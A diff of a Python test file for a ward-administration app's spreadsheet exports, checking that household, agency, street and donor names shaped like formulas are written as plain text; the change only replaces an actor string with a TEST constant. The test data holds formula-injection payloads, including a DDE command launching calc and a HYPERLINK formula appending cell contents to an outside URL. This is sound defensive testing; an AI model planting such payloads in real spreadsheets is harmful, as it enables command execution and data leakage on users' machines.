@@ -17,6 +17,7 @@ from openpyxl import Workbook, load_workbook
 
 from vanhoa.imports import xlsx
 from vanhoa.registry import services as registry
+from vanhoa.testing.actors import TEST
 
 NAME = '=HYPERLINK("http://x"&A1,"Bấm vào")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTab", "\r=1+1"]
@@ -84,8 +85,8 @@ def test_every_workbook_writer_goes_through_the_one_writer():
 def hostile_registry(world):
     """A household, an agency and a street whose names are formulas."""
     world.household(world.groups[0], NAME, code="QT-001", address="=1+1")
-    registry.create_agency(actor="t", ward=world.ward, name=NAME, group=world.groups[0], address="@x")
-    registry.create_street(actor="t", ward=world.ward, name=NAME, stretch="-ngã ba", groups=[world.groups[0]])
+    registry.create_agency(actor=TEST, ward=world.ward, name=NAME, group=world.groups[0], address="@x")
+    registry.create_street(actor=TEST, ward=world.ward, name=NAME, stretch="-ngã ba", groups=[world.groups[0]])
 
 
 def test_the_household_agency_and_street_exports_write_the_names_as_text(world, hostile_registry, client_for):
@@ -116,7 +117,7 @@ def xlsx_template(groups):
 def test_the_public_contributions_list_writes_donor_names_as_text(world, client_for):
     from vanhoa.activities import funding
 
-    funding.record_contribution(actor="t", ward=world.ward_2020, donor_name=NAME, value=1_000_000,
+    funding.record_contribution(actor=TEST, ward=world.ward_2020, donor_name=NAME, value=1_000_000,
                                 received_on=date(2020, 11, 2))  # fmt: skip
     data = client_for(world.users["front_officer"]).get("/hoat-dong/kinh-phi/cong-khai.xlsx?nam=2020").content
     assert_written_as_text(data, NAME)
